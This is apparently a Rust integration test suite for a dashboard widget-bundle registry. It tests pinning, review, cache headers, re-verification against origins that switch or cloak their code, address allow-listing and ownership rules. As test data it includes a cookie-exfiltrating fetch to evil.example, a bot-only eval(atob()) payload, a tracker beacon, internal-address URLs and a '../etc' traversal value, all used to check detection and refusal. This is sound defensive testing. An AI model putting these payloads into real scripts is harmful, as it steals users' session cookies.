//! Widget bundles end to end: registration against an origin this test
//! serves on loopback (one that can change its answer, or answer a bot
//! differently), review, the pinned copies' headers, re-verification,
//! ownership under row-level security, and widgets linking a bundle.

use crate::harness::*;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use serde_json::{Value, json};
use std::io::Read;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tower::ServiceExt;

const CLEAN: &str = "export function render(el) { el.textContent = 'ticker'; }\n";

/// What the origin answers.
#[derive(Clone)]
struct Answer {
    body: Vec<u8>,
    content_type: &'static str,
    /// Served instead to User-Agents containing "bot".
    to_bots: Option<Vec<u8>>,
}

/// A widget developer's origin on 127.0.0.1.
struct Origin {
    url: String,
    answer: Arc<Mutex<Answer>>,
    task: tokio::task::JoinHandle<()>,
}

impl Origin {
    async fn start(body: &str) -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}/bundle", listener.local_addr().unwrap());
        let answer = Arc::new(Mutex::new(Answer {
            body: body.as_bytes().to_vec(),
            content_type: "text/javascript",
            to_bots: None,
        }));
        let shared = Arc::clone(&answer);
        let task = tokio::spawn(async move {
            loop {
                let Ok((mut stream, _)) = listener.accept().await else {
                    return;
                };
                let answer = shared.lock().unwrap().clone();
                tokio::spawn(async move {
                    let mut head = Vec::new();
                    let mut buf = [0u8; 1024];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                        match stream.read(&mut buf).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => head.extend_from_slice(&buf[..n]),
                        }
                    }
                    let head = String::from_utf8_lossy(&head).to_ascii_lowercase();
                    let bot = head
                        .lines()
                        .any(|l| l.starts_with("user-agent:") && l.contains("bot"));
                    let body = match (&answer.to_bots, bot) {
                        (Some(other), true) => other.clone(),
                        _ => answer.body.clone(),
                    };
                    let response = format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: {}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                        answer.content_type,
                        body.len()
                    );
                    let _ = stream.write_all(response.as_bytes()).await;
                    let _ = stream.write_all(&body).await;
                    let _ = stream.shutdown().await;
                });
            }
        });
        Self { url, answer, task }
    }

    fn set(&self, f: impl FnOnce(&mut Answer)) {
        f(&mut self.answer.lock().unwrap());
    }
}

impl Drop for Origin {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn bundle_app(extra: &[(&str, &str)]) -> (TestApp, tempdir::Dir) {
    let dir = tempdir::Dir::new();
    let data_dir = dir.path().to_str().unwrap().to_owned();
    let mut vars: Vec<(&str, &str)> = vec![
        ("BUNDLE_ALLOW_HOSTS", "127.0.0.1"),
        ("DATA_DIR", data_dir.as_str()),
    ];
    vars.extend_from_slice(extra);
    (test_app_with(&vars).await, dir)
}

/// A throwaway directory, removed when dropped.
mod tempdir {
    pub struct Dir(std::path::PathBuf);

    impl Dir {
        pub fn new() -> Self {
            use std::sync::atomic::{AtomicU32, Ordering};
            static N: AtomicU32 = AtomicU32::new(0);
            let path = std::env::temp_dir().join(format!(
                "widget-data-bundles-{}-{}",
                std::process::id(),
                N.fetch_add(1, Ordering::Relaxed)
            ));
            std::fs::create_dir_all(&path).unwrap();
            Self(path)
        }

        pub fn path(&self) -> &std::path::Path {
            &self.0
        }
    }

    impl Drop for Dir {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
}

async fn register(t: &TestApp, token: &str, id: &str, version: &str, url: &str) -> Reply {
    t.request(
        Method::POST,
        "/functions/v1/widget-bundles",
        Some(token),
        Some(json!({"bundle_id": id, "version": version, "url": url, "declared_hosts": ["api.example.com"]})),
    )
    .await
}

async fn review(t: &TestApp, id: &str, version: &str, status: &str) -> Reply {
    t.request(
        Method::PATCH,
        &format!("/functions/v1/widget-bundles/{id}/{version}"),
        Some(&service()),
        Some(json!({"status": status})),
    )
    .await
}

/// A GET of a served file: status, headers and raw bytes.
async fn get(
    t: &TestApp,
    path: &str,
    token: Option<&str>,
    headers: &[(&str, &str)],
) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
    let mut req = Request::builder().uri(path);
    if let Some(token) = token {
        req = req.header("authorization", format!("Bearer {token}"));
    }
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = t
        .router
        .clone()
        .oneshot(req.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let (status, headers) = (resp.status(), resp.headers().clone());
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    (status, headers, bytes.to_vec())
}

fn sri(bytes: &[u8]) -> String {
    use base64::Engine;
    use sha2::Digest;
    let digest = sha2::Sha384::digest(bytes);
    format!(
        "sha384-{}",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[tokio::test]
async fn a_pinned_version_is_served_immutable_with_its_integrity_and_variants() {
    let (t, _dir) = bundle_app(&[]).await;
    t.listen().await;
    let origin = Origin::start(CLEAN).await;
    let reply = register(&t, &user(DEMO_USER), "ticker", "1.0.0", &origin.url).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let version = &reply.body;
    assert_eq!(version["status"], "pending");
    assert_eq!(version["integrity"], sri(CLEAN.as_bytes()));
    assert_eq!(version["sha256"], sha256(CLEAN.as_bytes()));
    assert_eq!(version["size_bytes"], CLEAN.len());
    assert_eq!(version["url"], "/widgets/ticker/v1.0.0/bundle.js");
    assert_eq!(version["findings"], json!([]));
    assert_eq!(version["owner_id"], DEMO_USER);
    let path = "/widgets/ticker/v1.0.0/bundle.js";

    // Pending: its owner and service_role only, never a shared cache.
    assert_eq!(get(&t, path, None, &[]).await.0, StatusCode::NOT_FOUND);
    assert_eq!(
        get(&t, path, Some(&user(OTHER_USER)), &[]).await.0,
        StatusCode::NOT_FOUND
    );
    let (status, headers, body) = get(&t, path, Some(&user(DEMO_USER)), &[]).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, CLEAN.as_bytes());
    assert_eq!(headers["cache-control"], "private, no-store");
    assert_eq!(get(&t, path, Some(&service()), &[]).await.0, StatusCode::OK);

    let approved = review(&t, "ticker", "1.0.0", "approved").await;
    assert_eq!(approved.status, StatusCode::OK, "{}", approved.body);
    assert_eq!(approved.body["status"], "approved");

    // Approved: anyone, no token, immutable, with CORS for SRI.
    let (status, headers, body) = get(&t, path, None, &[("origin", "https://dash.example")]).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, CLEAN.as_bytes());
    assert_eq!(sri(&body), version["integrity"].as_str().unwrap());
    assert_eq!(
        headers["cache-control"],
        "public, max-age=31536000, immutable"
    );
    assert_eq!(headers["content-type"], "text/javascript; charset=utf-8");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    let origins: Vec<_> = headers
        .get_all("access-control-allow-origin")
        .iter()
        .collect();
    assert_eq!(origins, ["*"], "one Access-Control-Allow-Origin");
    let etag = headers["etag"].to_str().unwrap().to_owned();
    assert_eq!(etag, format!("\"{}\"", sha256(CLEAN.as_bytes())));
    assert!(headers.get("content-encoding").is_none());

    // The browser holds it: 304, no body.
    let (status, headers, body) = get(&t, path, None, &[("if-none-match", &etag)]).await;
    assert_eq!(status, StatusCode::NOT_MODIFIED);
    assert!(body.is_empty());
    assert_eq!(headers["etag"], etag.as_str());

    // Compressed variants, made at registration.
    let (_, headers, body) = get(&t, path, None, &[("accept-encoding", "gzip, br")]).await;
    assert_eq!(headers["content-encoding"], "br");
    let mut plain = Vec::new();
    brotli::Decompressor::new(&body[..], 4096)
        .read_to_end(&mut plain)
        .unwrap();
    assert_eq!(plain, CLEAN.as_bytes());
    let (_, headers, body) = get(&t, path, None, &[("accept-encoding", "gzip")]).await;
    assert_eq!(headers["content-encoding"], "gzip");
    let mut plain = Vec::new();
    flate2::read::GzDecoder::new(&body[..])
        .read_to_end(&mut plain)
        .unwrap();
    assert_eq!(plain, CLEAN.as_bytes());

    // The newest approved version, as unpkg redirects.
    let origin2 = Origin::start("export const v = 2;\n").await;
    let v2 = register(&t, &user(DEMO_USER), "ticker", "1.1.0", &origin2.url).await;
    assert_eq!(v2.status, StatusCode::CREATED, "{}", v2.body);
    let (status, headers, _) = get(&t, "/widgets/ticker/bundle.js", None, &[]).await;
    assert_eq!(status, StatusCode::FOUND);
    assert_eq!(headers["location"], "/widgets/ticker/v1.0.0/bundle.js");
    assert_eq!(headers["cache-control"], "public, max-age=300");
    review(&t, "ticker", "1.1.0", "approved").await;
    let (_, headers, _) = get(&t, "/widgets/ticker/bundle.js", None, &[]).await;
    assert_eq!(headers["location"], "/widgets/ticker/v1.1.0/bundle.js");

    // Versions are immutable; the same bytes again reuse the blob.
    let again = register(&t, &user(DEMO_USER), "ticker", "1.0.0", &origin.url).await;
    assert_eq!(again.status, StatusCode::CONFLICT, "{}", again.body);
    let same = register(&t, &user(DEMO_USER), "ticker", "1.0.1", &origin.url).await;
    assert_eq!(same.status, StatusCode::CREATED);
    assert_eq!(same.body["sha256"], version["sha256"]);

    // Quarantined: gone for everyone but its owner, at once.
    assert_eq!(get(&t, path, None, &[]).await.0, StatusCode::OK);
    review(&t, "ticker", "1.0.0", "quarantined").await;
    assert_eq!(get(&t, path, None, &[]).await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_switch_at_the_origin_is_caught_and_the_pinned_bytes_stay() {
    let (t, _dir) = bundle_app(&[("BUNDLE_AUTO_APPROVE", "true")]).await;
    t.listen().await;
    let origin = Origin::start(CLEAN).await;
    let reply = register(&t, &user(DEMO_USER), "switch", "1.0.0", &origin.url).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    assert_eq!(reply.body["status"], "approved", "clean: approved at once");
    let pass = t.app.bundles.verify_all().await.unwrap();
    assert_eq!((pass.checked, pass.matched, pass.drifted), (1, 1, 0));

    // The developer swaps the code after review.
    let evil = "fetch('https://evil.example/steal?c=' + document.cookie);\n";
    origin.set(|a| a.body = evil.as_bytes().to_vec());
    let pass = t.app.bundles.verify_all().await.unwrap();
    assert_eq!((pass.checked, pass.drifted), (1, 1));
    let row = t
        .sql_rows("SELECT drift_count, drift_sha256, status, last_drift_at IS NOT NULL AS drifted FROM app.widget_bundles WHERE bundle_id = 'switch'")
        .await;
    assert_eq!(
        row,
        json!([{"drift_count": 1, "drift_sha256": sha256(evil.as_bytes()), "status": "approved", "drifted": true}])
    );
    // What is served never changes.
    let (status, _, body) = get(&t, "/widgets/switch/v1.0.0/bundle.js", None, &[]).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, CLEAN.as_bytes());
    let metrics = t.app.cache.stats.prometheus(&t.app.cache.snapshot());
    assert!(
        metrics.contains("widget_data_bundle_drifts_total 1"),
        "{metrics}"
    );

    // An origin that cannot be reached is counted, never a match.
    drop(origin);
    let pass = t.app.bundles.verify_all().await.unwrap();
    assert_eq!((pass.matched, pass.drifted, pass.unreachable), (0, 0, 1));
    let row = t
        .sql_rows("SELECT unreachable_count, drift_count FROM app.widget_bundles WHERE bundle_id = 'switch'")
        .await;
    assert_eq!(row, json!([{"unreachable_count": 1, "drift_count": 1}]));
}

#[tokio::test]
async fn a_switch_aimed_at_bots_only_is_caught_and_can_quarantine() {
    let (t, _dir) = bundle_app(&[
        ("BUNDLE_AUTO_APPROVE", "true"),
        ("BUNDLE_ON_DRIFT", "quarantine"),
    ])
    .await;
    t.listen().await;
    let origin = Origin::start(CLEAN).await;
    let reply = register(&t, &user(DEMO_USER), "cloak", "2.0.0", &origin.url).await;
    assert_eq!(reply.body["status"], "approved", "{}", reply.body);
    let path = "/widgets/cloak/v2.0.0/bundle.js";
    assert_eq!(get(&t, path, None, &[]).await.0, StatusCode::OK);
    // Browsers still get the reviewed code; crawlers get something else.
    origin.set(|a| a.to_bots = Some(b"/* cloaked */ eval(atob('...'))".to_vec()));
    let pass = t.app.bundles.verify_all().await.unwrap();
    assert_eq!(pass.drifted, 1);
    let status = t
        .sql_rows("SELECT status FROM app.widget_bundles WHERE bundle_id = 'cloak'")
        .await;
    assert_eq!(status, json!([{"status": "quarantined"}]));
    // Out of service on every instance: the status change is heard.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while get(&t, path, None, &[]).await.0 != StatusCode::NOT_FOUND {
        assert!(std::time::Instant::now() < deadline, "still served");
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(
        get(&t, path, Some(&user(DEMO_USER)), &[]).await.0,
        StatusCode::OK,
        "its owner still sees it"
    );
}

#[tokio::test]
async fn refused_fetches_store_nothing_and_name_why() {
    let (t, dir) = bundle_app(&[("BUNDLE_MAX_BYTES", "1024")]).await;
    let origin = Origin::start(&"x".repeat(4096)).await;
    let reply = register(&t, &user(DEMO_USER), "big", "1.0.0", &origin.url).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(reply.body["code"], "bundle_too_large");

    origin.set(|a| {
        a.body = b"<html>hi</html>".to_vec();
        a.content_type = "text/html";
    });
    let reply = register(&t, &user(DEMO_USER), "big", "1.0.0", &origin.url).await;
    assert_eq!(
        reply.body["code"], "bundle_bad_content_type",
        "{}",
        reply.body
    );

    // Not on BUNDLE_ALLOW_HOSTS, refused before any connection.
    for url in [
        "http://127.0.0.2/bundle",
        "http://2130706434/bundle",
        "http://localhost/bundle",
        "http://10.0.0.1/bundle",
        "http://[::1]/bundle",
    ] {
        let reply = register(&t, &user(DEMO_USER), "big", "1.0.0", url).await;
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{url}");
        assert_eq!(reply.body["code"], "bundle_forbidden_address", "{url}");
    }
    let reply = register(&t, &user(DEMO_USER), "big", "1.0.0", "ftp://127.0.0.1/x").await;
    assert_eq!(reply.body["code"], "bundle_fetch_failed");

    let rows = t
        .sql_rows("SELECT count(*) AS n FROM app.widget_bundles")
        .await;
    assert_eq!(rows, json!([{"n": 0}]));
    let blobs = dir.path().join("bundles");
    let stored = std::fs::read_dir(&blobs).map_or(0, |d| d.count());
    assert_eq!(stored, 0, "nothing under {}", blobs.display());
}

#[tokio::test]
async fn a_bundle_id_belongs_to_its_first_developer() {
    let (t, _dir) = bundle_app(&[]).await;
    let origin = Origin::start(CLEAN).await;
    assert_eq!(
        register(&t, &user(DEMO_USER), "mine", "1.0.0", &origin.url)
            .await
            .status,
        StatusCode::CREATED
    );
    // Someone else may not add versions to it.
    let theirs = register(&t, &user(OTHER_USER), "mine", "6.6.6", &origin.url).await;
    assert_eq!(theirs.status, StatusCode::FORBIDDEN, "{}", theirs.body);
    // Nor past the service: the table's own policy refuses it.
    let mut tx = t.pool.begin().await.unwrap();
    sqlx::query("SELECT set_config('request.jwt.claims', $1, true)")
        .bind(json!({"role": "authenticated", "sub": OTHER_USER}).to_string())
        .execute(&mut *tx)
        .await
        .unwrap();
    sqlx::query("SET LOCAL ROLE authenticated")
        .execute(&mut *tx)
        .await
        .unwrap();
    let sneaked = sqlx::query(
        "INSERT INTO app.widget_bundles (bundle_id, version, owner_id, origin_url, sha256, integrity, size_bytes, content_type)
         VALUES ('mine', '6.6.6', $1::uuid, 'http://x', repeat('a', 64), 'sha384-x', 1, 'text/javascript')",
    )
    .bind(OTHER_USER)
    .execute(&mut *tx)
    .await;
    assert!(
        sneaked.is_err(),
        "the insert policy let another developer in"
    );
    drop(tx);
    // anon and other users list nothing of it; its owner lists it.
    let listed = t
        .request(
            Method::GET,
            "/functions/v1/widget-bundles",
            Some(&user(OTHER_USER)),
            None,
        )
        .await;
    assert_eq!(listed.body, json!([]));
    let listed = t
        .request(
            Method::GET,
            "/functions/v1/widget-bundles",
            Some(&user(DEMO_USER)),
            None,
        )
        .await;
    assert_eq!(listed.body.as_array().map(Vec::len), Some(1));
    let listed = t
        .request(
            Method::GET,
            "/functions/v1/widget-bundles",
            Some(&anon()),
            None,
        )
        .await;
    assert_eq!(listed.status, StatusCode::FORBIDDEN);
    let registered = register(&t, &anon(), "anon", "1.0.0", &origin.url).await;
    assert_eq!(registered.status, StatusCode::FORBIDDEN);
    // Only service_role reviews.
    let reviewed = t
        .request(
            Method::PATCH,
            "/functions/v1/widget-bundles/mine/1.0.0",
            Some(&user(DEMO_USER)),
            Some(json!({"status": "approved"})),
        )
        .await;
    assert_eq!(reviewed.status, StatusCode::FORBIDDEN);
    let queue = t
        .request(
            Method::GET,
            "/functions/v1/widget-bundles?status=pending",
            Some(&service()),
            None,
        )
        .await;
    assert_eq!(queue.body.as_array().map(Vec::len), Some(1));
}

#[tokio::test]
async fn a_high_severity_finding_keeps_a_version_pending() {
    let (t, _dir) = bundle_app(&[("BUNDLE_AUTO_APPROVE", "true")]).await;
    let origin =
        Origin::start("fetch('https://tracker.example/collect', {method: 'POST'});\n").await;
    let reply = register(&t, &user(DEMO_USER), "leaky", "1.0.0", &origin.url).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    assert_eq!(reply.body["status"], "pending");
    let findings = reply.body["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["severity"] == "high" && f["line"] == 1),
        "{findings:?}"
    );
}

#[tokio::test]
async fn a_widget_naming_a_bundle_carries_its_url_and_integrity() {
    let (t, _dir) = bundle_app(&[("BUNDLE_AUTO_APPROVE", "true")]).await;
    let origin = Origin::start(CLEAN).await;
    let reply = register(&t, &user(DEMO_USER), "chart", "3.1.0", &origin.url).await;
    assert_eq!(reply.body["status"], "approved");
    let board: Value = t
        .sql_rows(&format!(
            "SELECT id FROM app.dashboards WHERE owner_id = '{DEMO_USER}' LIMIT 1"
        ))
        .await;
    let board = board[0]["id"].as_str().unwrap().to_owned();
    let created = t
        .request_with(
            Method::POST,
            "/rest/v1/dashboard_widgets",
            Some(&user(DEMO_USER)),
            Some(json!({
                "dashboard_id": board, "widget_type": "chart", "title": "bundled",
                "config": {"bundle": {"id": "chart", "version": "3.1.0"}},
                "data_source": {"table": "servers", "groupBy": "status"}
            })),
            &[("prefer", "return=representation")],
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let id = created.body[0]["id"].as_str().unwrap().to_owned();
    let link = json!({
        "id": "chart", "version": "3.1.0",
        "url": "/widgets/chart/v3.1.0/bundle.js",
        "integrity": sri(CLEAN.as_bytes()),
    });
    let answer = t
        .request(
            Method::POST,
            "/functions/v1/widget-data",
            Some(&user(DEMO_USER)),
            Some(json!({"widget_id": id})),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["bundle"], link);
    let rows = t
        .request(
            Method::GET,
            &format!("/rest/v1/dashboard_widgets?id=eq.{id}"),
            Some(&user(DEMO_USER)),
            None,
        )
        .await;
    assert_eq!(rows.body[0]["bundle"], link);
    // A malformed reference is refused on save, naming the field.
    let bad = t
        .request(
            Method::PATCH,
            &format!("/rest/v1/dashboard_widgets?id=eq.{id}"),
            Some(&user(DEMO_USER)),
            Some(json!({"config": {"bundle": {"id": "../etc", "version": "1"}}})),
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert_eq!(bad.body["details"]["field"], "config.bundle");
}
